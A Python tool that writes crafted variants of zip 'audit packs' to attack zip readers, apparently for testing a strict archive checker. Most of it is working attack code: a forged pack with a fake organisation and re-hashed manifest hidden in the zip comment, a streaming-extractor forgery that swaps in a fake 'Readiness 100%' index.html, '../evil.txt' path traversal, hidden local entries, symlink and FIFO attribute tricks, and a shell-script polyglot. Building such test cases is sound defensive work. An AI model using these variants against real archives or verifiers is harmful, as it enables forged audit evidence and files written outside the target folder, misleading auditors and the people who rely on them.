#!/usr/bin/env python3
"""Write crafted variants of a zip file (an Annexa audit pack) that attack zip readers.

Usage:
    python3 craft_zip.py VARIANT IN.zip OUT.zip [--entry NAME]
    python3 craft_zip.py --list          # the variant names, one per line
    python3 craft_zip.py --describe      # the names with what each one does

Each variant produces an archive that Info-ZIP `unzip` and/or Python's `zipfile` read
differently from the original, or that breaks a rule of the zip structure which a strict
checker should enforce (every local header agrees with its central header, no bytes the
central directory does not account for, a single-disk end record, ...). The one exception
is `honest-data-descriptor`, a valid archive that a strict checker must still accept.

The input is read with a small raw parser of the end record, the central directory and
the local headers below, and the output is written header by header with struct.pack, so
that every field can be made to lie. Entry contents are never decompressed except where a
variant needs new content (`second-eocd-in-comment`), where zipfile reads them.

`--entry NAME` picks the entry a variant works on; by default each variant picks a
suitable one (an evidence file, preferring a deflated one where the method matters).

ZIP64 archives, multi-disk archives and archives with bytes before their first entry are
refused as input: the packs under test are small, single-disk and start at offset 0.

Exit status: 0 on success, 1 if the variant cannot be made from this input, 2 for a
usage error.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from typing import Callable, Optional, Union

LOCAL_SIG = 0x04034B50
CENTRAL_SIG = 0x02014B50
EOCD_SIG = 0x06054B50
DESCRIPTOR_SIG = 0x08074B50
ZIP64_LOCATOR_SIG = 0x07064B50

LOCAL_FMT = "<IHHHHHIIIHH"  # 30 bytes, then name and extra
CENTRAL_FMT = "<IHHHHHHIIIHHHHHII"  # 46 bytes, then name, extra and comment
EOCD_FMT = "<IHHHHIIH"  # 22 bytes, then comment
LOCAL_LEN = struct.calcsize(LOCAL_FMT)
CENTRAL_LEN = struct.calcsize(CENTRAL_FMT)
EOCD_LEN = struct.calcsize(EOCD_FMT)
assert (LOCAL_LEN, CENTRAL_LEN, EOCD_LEN) == (30, 46, 22)

FLAG_ENCRYPTED = 0x0001
FLAG_DESCRIPTOR = 0x0008
FLAG_UTF8 = 0x0800

METHOD_STORED = 0
METHOD_DEFLATED = 8

EXTRA_ZIP64 = 0x0001
EXTRA_UNICODE_PATH = 0x7075


class CraftError(Exception):
    """The variant cannot be made from this input."""


# --------------------------------------------------------------------------------------
# The records


@dataclass
class Local:
    """A local file header."""

    version_needed: int
    flags: int
    method: int
    mod_time: int
    mod_date: int
    crc: int
    csize: int
    usize: int
    name: bytes
    extra: bytes

    def pack(self) -> bytes:
        return (
            struct.pack(
                LOCAL_FMT,
                LOCAL_SIG,
                self.version_needed,
                self.flags,
                self.method,
                self.mod_time,
                self.mod_date,
                self.crc,
                self.csize,
                self.usize,
                len(self.name),
                len(self.extra),
            )
            + self.name
            + self.extra
        )


@dataclass
class Central:
    """A central directory file header."""

    version_made: int
    version_needed: int
    flags: int
    method: int
    mod_time: int
    mod_date: int
    crc: int
    csize: int
    usize: int
    disk_start: int
    internal_attr: int
    external_attr: int
    offset: int
    name: bytes
    extra: bytes
    comment: bytes

    def pack(self) -> bytes:
        return (
            struct.pack(
                CENTRAL_FMT,
                CENTRAL_SIG,
                self.version_made,
                self.version_needed,
                self.flags,
                self.method,
                self.mod_time,
                self.mod_date,
                self.crc,
                self.csize,
                self.usize,
                len(self.name),
                len(self.extra),
                len(self.comment),
                self.disk_start,
                self.internal_attr,
                self.external_attr,
                self.offset,
            )
            + self.name
            + self.extra
            + self.comment
        )

    @property
    def text_name(self) -> str:
        return decode_name(self.name, self.flags)


@dataclass
class Eocd:
    """The end of central directory record."""

    disk: int
    cd_disk: int
    entries_this_disk: int
    entries_total: int
    cd_size: int
    cd_offset: int
    comment: bytes

    def pack(self) -> bytes:
        return (
            struct.pack(
                EOCD_FMT,
                EOCD_SIG,
                self.disk,
                self.cd_disk,
                self.entries_this_disk,
                self.entries_total,
                self.cd_size,
                self.cd_offset,
                len(self.comment),
            )
            + self.comment
        )


@dataclass(eq=False)
class Entry:
    """One member: its central header, its local header, its (compressed) data and its
    data descriptor if it has one (raw bytes, with or without the optional signature)."""

    central: Central
    local: Local
    data: bytes
    descriptor: bytes = b""

    @property
    def name(self) -> str:
        return self.central.text_name

    @property
    def is_dir(self) -> bool:
        return self.name.endswith("/")

    def pack(self) -> bytes:
        return self.local.pack() + self.data + self.descriptor


@dataclass
class Archive:
    """A parsed input: entries in central directory order, and the end record."""

    entries: list[Entry]
    eocd: Eocd

    def by_name(self, name: str) -> Entry:
        for e in self.entries:
            if e.name == name:
                return e
        raise CraftError(f"no entry named {name!r} in the input")


def decode_name(raw: bytes, flags: int) -> str:
    return raw.decode("utf-8" if flags & FLAG_UTF8 else "cp437")


def extra_fields(extra: bytes) -> list[tuple[int, bytes]]:
    """Split an extra field into (id, data) pairs; a malformed tail is returned as id -1."""
    out = []
    i = 0
    while i + 4 <= len(extra):
        tag, size = struct.unpack_from("<HH", extra, i)
        if i + 4 + size > len(extra):
            break
        out.append((tag, extra[i + 4 : i + 4 + size]))
        i += 4 + size
    if i != len(extra):
        out.append((-1, extra[i:]))
    return out


# --------------------------------------------------------------------------------------
# Reading


def find_eocd(blob: bytes) -> int:
    """The position of the end record: the last signature whose comment ends the file."""
    lowest = max(0, len(blob) - EOCD_LEN - 0xFFFF)
    pos = len(blob) - EOCD_LEN
    while pos >= lowest:
        pos = blob.rfind(struct.pack("<I", EOCD_SIG), lowest, pos + 4)
        if pos < 0:
            break
        (comment_len,) = struct.unpack_from("<H", blob, pos + 20)
        if pos + EOCD_LEN + comment_len == len(blob):
            return pos
        pos -= 1
    raise CraftError("no end of central directory record: not a zip file")


def read_archive(blob: bytes) -> Archive:
    eocd_pos = find_eocd(blob)
    sig, disk, cd_disk, this_disk, total, cd_size, cd_offset, comment_len = struct.unpack_from(
        EOCD_FMT, blob, eocd_pos
    )
    eocd = Eocd(
        disk,
        cd_disk,
        this_disk,
        total,
        cd_size,
        cd_offset,
        blob[eocd_pos + EOCD_LEN : eocd_pos + EOCD_LEN + comment_len],
    )
    if eocd_pos >= 20 and struct.unpack_from("<I", blob, eocd_pos - 20)[0] == ZIP64_LOCATOR_SIG:
        raise CraftError("the input is a ZIP64 archive (it has a ZIP64 end locator); not supported")
    if 0xFFFF in (disk, cd_disk, this_disk, total) or 0xFFFFFFFF in (cd_size, cd_offset):
        raise CraftError("the input's end record defers to ZIP64 (0xFFFF.. fields); not supported")
    if disk != 0 or cd_disk != 0 or this_disk != total:
        raise CraftError("the input claims to be part of a multi-disk archive; not supported")
    if cd_offset + cd_size != eocd_pos:
        raise CraftError(
            f"the central directory does not end where the end record starts "
            f"({cd_offset} + {cd_size} != {eocd_pos}): the input has bytes before the "
            f"archive or between the directory and the end record; not supported"
        )

    entries = []
    pos = cd_offset
    for n in range(total):
        if pos + CENTRAL_LEN > eocd_pos:
            raise CraftError(f"central directory truncated at entry {n}")
        f = struct.unpack_from(CENTRAL_FMT, blob, pos)
        if f[0] != CENTRAL_SIG:
            raise CraftError(f"no central header signature at offset {pos} (entry {n})")
        name_len, extra_len, comment_len = f[10], f[11], f[12]
        p = pos + CENTRAL_LEN
        name = blob[p : p + name_len]
        extra = blob[p + name_len : p + name_len + extra_len]
        comment = blob[p + name_len + extra_len : p + name_len + extra_len + comment_len]
        central = Central(*f[1:10], *f[13:17], name, extra, comment)
        pos = p + name_len + extra_len + comment_len
        if 0xFFFFFFFF in (central.csize, central.usize, central.offset) or any(
            tag == EXTRA_ZIP64 for tag, _ in extra_fields(extra)
        ):
            raise CraftError(f"entry {central.text_name!r} uses ZIP64 fields; not supported")
        entries.append(read_entry(blob, central, cd_offset))
    if pos != eocd_pos:
        raise CraftError(f"the central directory has {eocd_pos - pos} bytes after its last entry")

    spans = sorted((e.central.offset, e.central.offset + len(e.pack()), e.name) for e in entries)
    for (_, end, a), (start, _, b) in zip(spans, spans[1:]):
        if start < end:
            raise CraftError(f"entries {a!r} and {b!r} overlap in the input")
    return Archive(entries, eocd)


def read_entry(blob: bytes, central: Central, cd_offset: int) -> Entry:
    off = central.offset
    if off + LOCAL_LEN > cd_offset:
        raise CraftError(f"local header of {central.text_name!r} is past the central directory")
    f = struct.unpack_from(LOCAL_FMT, blob, off)
    if f[0] != LOCAL_SIG:
        raise CraftError(f"no local header signature at offset {off} ({central.text_name!r})")
    name_len, extra_len = f[9], f[10]
    p = off + LOCAL_LEN
    local = Local(*f[1:9], blob[p : p + name_len], blob[p + name_len : p + name_len + extra_len])
    if any(tag == EXTRA_ZIP64 for tag, _ in extra_fields(local.extra)):
        raise CraftError(f"entry {central.text_name!r} has a ZIP64 local extra field; not supported")
    start = p + name_len + extra_len
    end = start + central.csize
    if end > cd_offset:
        raise CraftError(f"data of {central.text_name!r} runs into the central directory")
    descriptor = b""
    if local.flags & FLAG_DESCRIPTOR:
        has_sig = struct.unpack_from("<I", blob, end)[0] == DESCRIPTOR_SIG
        descriptor = blob[end : end + (16 if has_sig else 12)]
    return Entry(central, local, blob[start:end], descriptor)


def contents(blob: bytes, entry: Entry) -> bytes:
    """An entry's uncompressed content, read with zipfile from the untouched input."""
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        return z.read(z.getinfo(entry.central.text_name))


# --------------------------------------------------------------------------------------
# Writing


Piece = Union[Entry, bytes]


def write_archive(
    layout: list[Piece],
    directory: Optional[list[Entry]] = None,
    *,
    before_cd: bytes = b"",
    comment: bytes = b"",
    base: int = 0,
    eocd_edit: Callable[[Eocd], None] = lambda e: None,
) -> bytes:
    """Lay out the pieces (entries, or raw bytes nobody lists) one after the other, point
    each listed entry's central header at where its local header landed (`base` is added:
    the position of the first piece in the final file), then write `before_cd`, the
    central directory of `directory` (default: every entry of the layout, in order) and
    the end record, which `eocd_edit` may change before it is packed."""
    out = bytearray()
    for piece in layout:
        if isinstance(piece, Entry):
            piece.central.offset = base + len(out)
            out += piece.pack()
        else:
            out += piece
    out += before_cd
    if directory is None:
        directory = [p for p in layout if isinstance(p, Entry)]
    cd = b"".join(e.central.pack() for e in directory)
    eocd = Eocd(0, 0, len(directory), len(directory), len(cd), base + len(out), comment)
    eocd_edit(eocd)
    if len(eocd.comment) > 0xFFFF:
        raise CraftError(f"zip comment too long ({len(eocd.comment)} bytes, at most 65535)")
    out += cd
    out += eocd.pack()
    return bytes(out)


def in_file_order(archive: Archive) -> list[Entry]:
    return sorted(archive.entries, key=lambda e: e.central.offset)


def rebuild(archive: Archive, **kw) -> bytes:
    """The input written again, entries in their file order, directory in its order."""
    return write_archive(in_file_order(archive), archive.entries, comment=archive.eocd.comment, **kw)


def make_entry(name: str, data: bytes, *, method: int = METHOD_DEFLATED, like: Optional[Entry] = None) -> Entry:
    """A new, honest entry (local and central agree), timestamps taken from `like`."""
    if method == METHOD_DEFLATED:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = c.compress(data) + c.flush()
    else:
        packed = data
    raw = name.encode("utf-8")
    flags = 0 if raw.isascii() else FLAG_UTF8
    mod_time, mod_date = (like.central.mod_time, like.central.mod_date) if like else (0, 0x5821)
    crc = zlib.crc32(data)
    made = like.central.version_made if like else 20
    attr = like.central.external_attr if like else 0o644 << 16
    central = Central(made, 20, flags, method, mod_time, mod_date, crc, len(packed), len(data),
                      0, 0, attr, 0, raw, b"", b"")
    local = Local(20, flags, method, mod_time, mod_date, crc, len(packed), len(data), raw, b"")
    return Entry(central, local, packed)


# --------------------------------------------------------------------------------------
# Choosing the entry a variant works on


def pick(archive: Archive, wanted: Optional[str], prefer: Callable[[Entry], bool] = lambda e: True) -> Entry:
    """The entry named `wanted`, else the first evidence file satisfying `prefer`, else the
    first file satisfying it, else the first evidence file, else the first file."""
    if wanted is not None:
        return archive.by_name(wanted)
    files = [e for e in archive.entries if not e.is_dir]
    evidence = [e for e in files if e.name.startswith("evidence/")]
    for group in ([e for e in evidence if prefer(e)], [e for e in files if prefer(e)], evidence, files):
        if group:
            return group[0]
    raise CraftError("the input has no file entries")


def deflated(e: Entry) -> bool:
    return e.central.method == METHOD_DEFLATED


def rot13(raw: bytes) -> bytes:
    out = bytearray(raw)
    for i, b in enumerate(out):
        if 0x41 <= b <= 0x5A:
            out[i] = (b - 0x41 + 13) % 26 + 0x41
        elif 0x61 <= b <= 0x7A:
            out[i] = (b - 0x61 + 13) % 26 + 0x61
    return bytes(out)


# --------------------------------------------------------------------------------------
# The variants

VARIANTS: dict[str, Callable[[bytes, Archive, argparse.Namespace], bytes]] = {}


def variant(name: str):
    def register(fn):
        VARIANTS[name] = fn
        return fn

    return register


@variant("second-eocd-in-comment")
def second_eocd_in_comment(blob: bytes, archive: Archive, opts) -> bytes:
    """A forged archive hidden in the zip comment of the real one.

    The real archive is written unchanged, and its end record's comment-length field
    covers everything after it. That comment holds: new local headers and data for a
    forged `manifest.json` (another organisation, and the new digest of one evidence
    file), a matching forged `manifest.sha256` and the changed evidence file; then a
    forged central directory (the forged entries, the other entries pointing back at the
    real local headers); then a forged end record, with an empty comment, that ends the
    file. The forged end record says "entries on this disk" = total - 1, so a reader that
    skips end records which look multi-disk (and checks that the comment length reaches the
    end of the file) falls back to the real one; but Info-ZIP unzip and Python zipfile take
    the last end record in the file and see the forged pack, which is self-consistent:
    `sha256sum -c manifest.sha256` and the manifest's digests agree after extraction.
    `--entry` chooses the evidence file to change (default: the smallest)."""
    names = {e.name for e in archive.entries}
    for needed in ("manifest.json", "manifest.sha256"):
        if needed not in names:
            raise CraftError(f"the input has no {needed}: not an audit pack")
    manifest_entry = archive.by_name("manifest.json")
    sha_entry = archive.by_name("manifest.sha256")
    if opts.entry is not None:
        evidence = archive.by_name(opts.entry)
    else:
        candidates = [e for e in archive.entries if e.name.startswith("evidence/") and not e.is_dir]
        if not candidates:
            raise CraftError("the input has no evidence/ file to change")
        evidence = min(candidates, key=lambda e: e.central.usize)
    if evidence in (manifest_entry, sha_entry):
        raise CraftError("--entry must be an evidence file, not the manifest")

    original = contents(blob, manifest_entry)
    try:
        manifest = json.loads(original)
    except ValueError as err:
        raise CraftError(f"manifest.json is not JSON: {err}") from None
    new_evidence = contents(blob, evidence) + b"\nThis line was added by a forger.\n"
    manifest["organisation"] = "Forged Organisation Ltd"
    for f in manifest.get("files", []):
        if isinstance(f, dict) and f.get("path") == evidence.name:
            f["size"] = len(new_evidence)
            f["sha256"] = hashlib.sha256(new_evidence).hexdigest()
    indent = 2 if b"\n " in original else None
    new_manifest = json.dumps(manifest, indent=indent, ensure_ascii=False).encode("utf-8")
    if original.endswith(b"\n"):
        new_manifest += b"\n"
    new_sha = f"{hashlib.sha256(new_manifest).hexdigest()}  manifest.json\n".encode()

    forged = {
        evidence: make_entry(evidence.name, new_evidence, like=evidence),
        manifest_entry: make_entry("manifest.json", new_manifest, like=manifest_entry),
        sha_entry: make_entry("manifest.sha256", new_sha, like=sha_entry),
    }
    # The real archive, with a comment of the right length to be filled in below.
    real_layout = in_file_order(archive)
    real_no_comment = write_archive(real_layout, archive.entries)
    comment_start = len(real_no_comment)

    # The forged directory lists the real entries (whose offsets the real write just set)
    # except the forged ones, which point into the comment.
    forged_dir = [forged.get(e, e) for e in archive.entries]

    def multi_disk(eocd: Eocd) -> None:
        eocd.entries_this_disk = max(eocd.entries_total - 1, 0)
        if eocd.entries_this_disk == eocd.entries_total:
            eocd.entries_this_disk = 1

    hidden = write_archive(list(forged.values()), forged_dir, base=comment_start, eocd_edit=multi_disk)
    if len(hidden) > 0xFFFF:
        raise CraftError(
            f"the forged copy is {len(hidden)} bytes, too big for a zip comment (65535); "
            f"choose a smaller evidence file with --entry"
        )
    real = write_archive(real_layout, archive.entries, comment=hidden)
    assert real[:comment_start] == real_no_comment[:-2] + struct.pack("<H", len(hidden))
    return real


@variant("local-name-differs")
def local_name_differs(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry's local header name differs from its central name, at the same length
    (the letters of its base name rot13'd, e.g. Policy.txt -> Cbyvpl.txt). `unzip -l`
    lists the central name; `unzip -t` warns (mismatching "local" filename, continuing
    with "central" filename version; exit 1); Python zipfile refuses to read the entry
    ("File name in directory ... and header ... differ"). A streaming reader (one that
    walks the local headers) extracts it under the local name."""
    e = pick(archive, opts.entry)
    head, sep, base = e.local.name.rpartition(b"/")
    stem, dot, ext = base.partition(b".")
    new = head + sep + rot13(stem) + dot + ext
    if new == e.local.name:
        new = rot13(e.local.name)
    if new == e.local.name:
        raise CraftError(f"{e.name!r} has no letters to change")
    e.local.name = new
    return rebuild(archive)


@variant("local-name-traversal")
def local_name_traversal(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry's local header name is `../evil.txt` while its central name is unchanged.
    The lengths differ, so every later local header and the central directory move, and
    the offsets are rewritten: `unzip -l` sees the original listing, `unzip -t` warns
    and uses the central name (exit 1), Python zipfile refuses to read the entry (names
    differ), and a reader that trusts local headers (streaming unzippers) would write
    outside the target folder."""
    e = pick(archive, opts.entry)
    e.local.name = b"../evil.txt"
    return rebuild(archive)


@variant("local-method-differs")
def local_method_differs(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry's local header says "stored" (0) while its central header says
    "deflated" (8) (or the other way round if the chosen entry is stored). Python zipfile
    uses the central method and reads the right content; Info-ZIP unzip uses the local
    one and gets the raw deflate stream (`unzip -t`: bad CRC, exit 2)."""
    e = pick(archive, opts.entry, prefer=deflated)
    e.local.method = METHOD_STORED if e.central.method == METHOD_DEFLATED else METHOD_DEFLATED
    return rebuild(archive)


@variant("hidden-local-entry")
def hidden_local_entry(blob: bytes, archive: Archive, opts) -> bytes:
    """An extra, well-formed local header and data (`evidence/hidden.txt`) inserted
    right after one listed entry (`--entry`, default an evidence file) and listed nowhere
    in the central directory; the offsets of everything after it are rewritten. Central
    directory readers (`unzip -l`/`-t`, zipfile) do not see it and do not complain; a
    streaming reader (one that walks the local headers) extracts an extra file.
    Structurally: bytes the central directory does not account for."""
    order = in_file_order(archive)
    after = pick(archive, opts.entry)
    if opts.entry is None and after is order[-1] and len(order) > 1:
        after = order[-2]  # keep the hidden entry between two listed ones
    hidden = make_entry("evidence/hidden.txt", b"This file is not in the central directory.\n",
                        method=METHOD_STORED, like=after)
    layout: list[Piece] = []
    for e in order:
        layout.append(e)
        if e is after:
            layout.append(hidden.pack())
    return write_archive(layout, archive.entries, comment=archive.eocd.comment)


def with_descriptor(archive: Archive, opts, lie: bool) -> bytes:
    e = pick(archive, opts.entry, prefer=deflated)
    crc, csize, usize = e.central.crc, e.central.csize, e.central.usize
    e.central.flags |= FLAG_DESCRIPTOR
    e.local.flags |= FLAG_DESCRIPTOR
    e.local.crc = e.local.csize = e.local.usize = 0
    if lie:
        crc ^= 0xFFFFFFFF
    e.descriptor = struct.pack("<IIII", DESCRIPTOR_SIG, crc, csize, usize)
    return rebuild(archive)


@variant("lying-data-descriptor")
def lying_data_descriptor(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry (default: a deflated evidence file) gets general-purpose bit 3 in its
    local and central headers, zeros for CRC and sizes in its local header, and after its
    data a data descriptor (with the 0x08074b50 signature) whose CRC is the complement of
    the true one; its sizes are right. The central directory keeps the true CRC, so
    zipfile and unzip (which trust the central values) read the entry without complaint:
    only a checker that compares the descriptor with the central header (or a streaming
    reader, which has nothing else to go on) notices. Offsets are rewritten."""
    return with_descriptor(archive, opts, lie=True)


@variant("honest-data-descriptor")
def honest_data_descriptor(blob: bytes, archive: Archive, opts) -> bytes:
    """The same as `lying-data-descriptor` but the descriptor is correct: a VALID archive,
    as streaming writers produce, that every reader (and a strict checker) must accept
    with the original's names and contents."""
    return with_descriptor(archive, opts, lie=False)


@variant("streaming-forgery")
def streaming_forgery(blob: bytes, archive: Archive, opts) -> bytes:
    """A pack with the same files, manifest and fingerprint in which streaming extractors
    (`cat PACK | bsdtar -xf -`, Java's ZipInputStream), which walk the local headers front
    to back, extract a forged copy of one file (`--entry`, default `index.html`). The
    deflated entry just before it in the file gets the data-descriptor flag (bit 3) and,
    after the real end of its deflate stream but still inside its compressed size, a data
    descriptor with its true values followed by a stored local header named like the
    target with forged content. That forged entry's size swallows the genuine target, so a
    streaming reader goes on with the entry after it. Readers of the central directory
    (unzip, Python, 7-Zip, Java's ZipFile) and an inflater that stops at the end of the
    stream see the genuine files; every byte is accounted for, so layout checks pass."""
    order = in_file_order(archive)
    target = archive.by_name(opts.entry or "index.html")
    at = order.index(target)
    if at == 0:
        raise CraftError(f"{target.name!r} is the first entry; nothing comes before it")
    carrier = order[at - 1]
    if not deflated(carrier):
        raise CraftError(f"{carrier.name!r}, the entry before {target.name!r}, is not deflated")
    if target.name.endswith(".html"):
        # An unclosed comment hides the swallowed bytes from a browser.
        forged = b"<!doctype html><meta charset=utf-8><title>Audit pack</title>" \
                 b"<h1>Readiness 100%</h1><p>Every control is implemented.</p><!--"
    else:
        forged = b"FORGED: this is not the file that was sent.\n"
    crc, csize, usize = carrier.central.crc, carrier.central.csize, carrier.central.usize
    true_descriptor = struct.pack("<IIII", DESCRIPTOR_SIG, crc, csize, usize)
    name = target.local.name
    hidden_len = len(true_descriptor) + LOCAL_LEN + len(name) + len(forged)
    new_csize = csize + hidden_len
    outer_descriptor = struct.pack("<IIII", DESCRIPTOR_SIG, crc, new_csize, usize)
    swallowed = forged + outer_descriptor + target.pack()
    fake = Local(20, target.local.flags & FLAG_UTF8, METHOD_STORED, target.local.mod_time,
                 target.local.mod_date, zlib.crc32(swallowed), len(swallowed), len(swallowed),
                 name, b"")
    hidden = true_descriptor + fake.pack() + forged
    assert len(hidden) == hidden_len
    carrier.data = carrier.data + hidden
    carrier.central.csize = new_csize
    carrier.central.flags |= FLAG_DESCRIPTOR
    carrier.local.flags |= FLAG_DESCRIPTOR
    carrier.local.crc = carrier.local.csize = carrier.local.usize = 0
    carrier.descriptor = outer_descriptor
    return rebuild(archive)


def with_attributes(archive: Archive, opts, made_by_host: int, external: int) -> bytes:
    e = pick(archive, opts.entry)
    e.central.version_made = (made_by_host << 8) | (e.central.version_made & 0xFF)
    e.central.external_attr = external
    return rebuild(archive)


@variant("file-with-unix-folder-mode")
def file_with_unix_folder_mode(blob: bytes, archive: Archive, opts) -> bytes:
    """A file entry (an evidence file by default) whose external attributes carry the Unix
    mode of a folder (S_IFDIR, 0o40755) under the Unix host: bsdtar and 7-Zip create an
    empty folder where the file should be. Everything else is unchanged."""
    return with_attributes(archive, opts, 3, (0o040755 << 16) | 0x10)


@variant("file-with-dos-folder-bit")
def file_with_dos_folder_bit(blob: bytes, archive: Archive, opts) -> bytes:
    """A file entry whose MS-DOS attributes have the folder bit (0x10) under the MS-DOS host,
    with no Unix mode: 7-Zip creates a folder where the file should be."""
    return with_attributes(archive, opts, 0, 0x10)


@variant("symlink-under-dos-host")
def symlink_under_dos_host(blob: bytes, archive: Archive, opts) -> bytes:
    """A file entry with the Unix mode of a symbolic link (S_IFLNK, 0o120777) in the high
    bits of its external attributes, written as if by an MS-DOS host (0), which readers that
    check the host do not take as a link: 7-Zip creates a symbolic link whose target is the
    entry's content."""
    return with_attributes(archive, opts, 0, 0o120777 << 16)


@variant("file-with-fifo-mode")
def file_with_fifo_mode(blob: bytes, archive: Archive, opts) -> bytes:
    """A file entry with the Unix mode of a named pipe (S_IFIFO, 0o10644): bsdtar creates a
    FIFO where the file should be, and whatever opens it next waits forever."""
    return with_attributes(archive, opts, 3, 0o010644 << 16)


@variant("prepended-script")
def prepended_script(blob: bytes, archive: Archive, opts) -> bytes:
    """A shell script (`#!/bin/sh` / `echo pwned`) in front of the archive, with every
    offset left as it was, so they are all wrong by the script's length. Info-ZIP unzip
    warns ("extra bytes at beginning or within zipfile") and compensates, Python zipfile
    compensates silently: both see the original content, while the file also runs as a
    script (`sh OUT.zip` prints pwned)."""
    return b"#!/bin/sh\necho pwned\n" + blob


@variant("local-flags-differ")
def local_flags_differ(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry's local general-purpose flags differ from the central ones: the UTF-8
    name flag (bit 11) is flipped. By default the entry is one with a non-ASCII name if
    there is one: then Python zipfile decodes the local name as CP437, finds it differs
    from the central one and refuses the entry. With an ASCII name both readers see the
    same content. Either way `unzip -t` warns ("mismatch between local and central GPF
    bit 11", exit 1)."""
    e = pick(archive, opts.entry, prefer=lambda e: not e.central.name.isascii())
    e.local.flags ^= FLAG_UTF8
    return rebuild(archive)


@variant("local-crc-differs")
def local_crc_differs(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry's local CRC-32 is the complement of the central one. Python zipfile
    checks against the central CRC and reads it fine; Info-ZIP unzip checks against the
    local one and reports a bad CRC (`unzip -t` fails)."""
    e = pick(archive, opts.entry, prefer=lambda e: not e.central.flags & FLAG_DESCRIPTOR)
    e.local.crc = e.central.crc ^ 0xFFFFFFFF
    return rebuild(archive)


@variant("local-size-differs")
def local_size_differs(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry's local compressed and uncompressed sizes are one byte larger than the
    central ones (the data itself is unchanged). Python zipfile uses the central sizes
    and reads it fine. Info-ZIP unzip reads a STORED entry's data by the local compressed
    size, so by default a stored entry is chosen: `unzip -t` then reads one byte too many
    (bad CRC, "overlapped components (possible zip bomb)", exit 12). For a deflated
    entry the deflate stream ends on its own and unzip does not notice."""
    e = pick(archive, opts.entry,
             prefer=lambda e: e.central.method == METHOD_STORED and not e.central.flags & FLAG_DESCRIPTOR
             and e.central.csize > 0)
    e.local.csize = e.central.csize + 1
    e.local.usize = e.central.usize + 1
    return rebuild(archive)


@variant("gap-before-central")
def gap_before_central(blob: bytes, archive: Archive, opts) -> bytes:
    """64 junk bytes between the last entry's data and the central directory, whose
    offset in the end record is rewritten to point past them. Both readers see the
    original content without complaint; structurally, bytes no header accounts for."""
    return rebuild(archive, before_cd=b"JUNK-NOT-IN-ANY-ENTRY---" * 2 + b"0123456789abcdef")


@variant("unicode-path-extra")
def unicode_path_extra(blob: bytes, archive: Archive, opts) -> bytes:
    """One entry gets an Info-ZIP Unicode Path extra field (0x7075: version 1, the CRC-32
    of the header name, then a different UTF-8 name, "ünicode-" before the base name) in
    both its central and local headers. Info-ZIP unzip lists and extracts the entry under
    the Unicode name; Python 3.11 zipfile ignores the field and uses the header name.
    Info-ZIP ignores the field when the UTF-8 flag (bit 11) is set, so by default an entry
    without it is chosen; if `--entry` names one with it, the flag is cleared in both
    headers (zipfile then decodes the header name as CP437)."""
    e = pick(archive, opts.entry, prefer=lambda e: not e.central.flags & FLAG_UTF8)
    e.central.flags &= ~FLAG_UTF8
    e.local.flags &= ~FLAG_UTF8
    head, sep, base = e.name.rpartition("/")
    new = (head + sep + "ünicode-" + base).encode("utf-8")
    field = struct.pack("<HHBI", EXTRA_UNICODE_PATH, 5 + len(new), 1, zlib.crc32(e.central.name)) + new
    e.central.extra += field
    e.local.extra += struct.pack("<HHBI", EXTRA_UNICODE_PATH, 5 + len(new), 1, zlib.crc32(e.local.name)) + new
    return rebuild(archive)


@variant("eocd-disk-mismatch")
def eocd_disk_mismatch(blob: bytes, archive: Archive, opts) -> bytes:
    """The only end record says "entries on this disk" = total - 1 (everything else
    honest), as if the archive spanned disks. Neither Python zipfile nor Info-ZIP unzip
    looks at that count (both read the same listing without complaint); a strict checker
    must refuse it, since it is what `second-eocd-in-comment` relies on."""

    def edit(eocd: Eocd) -> None:
        eocd.entries_this_disk = eocd.entries_total - 1 if eocd.entries_total else 1

    return rebuild(archive, eocd_edit=edit)


@variant("eocd-nonzero-disk")
def eocd_nonzero_disk(blob: bytes, archive: Archive, opts) -> bytes:
    """The only end record says it is on disk 1 (the central directory starting on disk
    0), as the last part of a two-part archive would; counts and offsets are honest.
    Python zipfile ignores it; `unzip -t` warns ("zipfile claims to be last disk of a
    multi-part archive", exit 1) but lists and tests the same entries."""

    def edit(eocd: Eocd) -> None:
        eocd.disk = 1

    return rebuild(archive, eocd_edit=edit)


# --------------------------------------------------------------------------------------


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(
        description="Write a crafted variant of a zip file that attacks zip readers.",
        epilog="Variants: " + ", ".join(VARIANTS),
    )
    parser.add_argument("--list", action="store_true", help="print the variant names and exit")
    parser.add_argument("--describe", action="store_true", help="print each variant's description")
    parser.add_argument("--entry", metavar="NAME", help="the entry the variant works on")
    parser.add_argument("variant", nargs="?")
    parser.add_argument("input", nargs="?", metavar="IN.zip")
    parser.add_argument("output", nargs="?", metavar="OUT.zip")
    opts = parser.parse_args(argv)
    if opts.list:
        print("\n".join(VARIANTS))
        return 0
    if opts.describe:
        for name, fn in VARIANTS.items():
            print(f"{name}\n    " + "\n    ".join(line.strip() for line in fn.__doc__.strip().splitlines()) + "\n")
        return 0
    if not (opts.variant and opts.input and opts.output):
        parser.print_usage(sys.stderr)
        print("craft_zip.py: error: VARIANT IN.zip OUT.zip are required", file=sys.stderr)
        return 2
    fn = VARIANTS.get(opts.variant)
    if fn is None:
        print(f"craft_zip.py: unknown variant {opts.variant!r}; known: {', '.join(VARIANTS)}", file=sys.stderr)
        return 2
    try:
        with open(opts.input, "rb") as f:
            blob = f.read()
        out = fn(blob, read_archive(blob), opts)
        with open(opts.output, "wb") as f:
            f.write(out)
    except (CraftError, OSError, zipfile.BadZipFile, zlib.error, struct.error) as err:
        print(f"craft_zip.py: {opts.variant}: {err}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
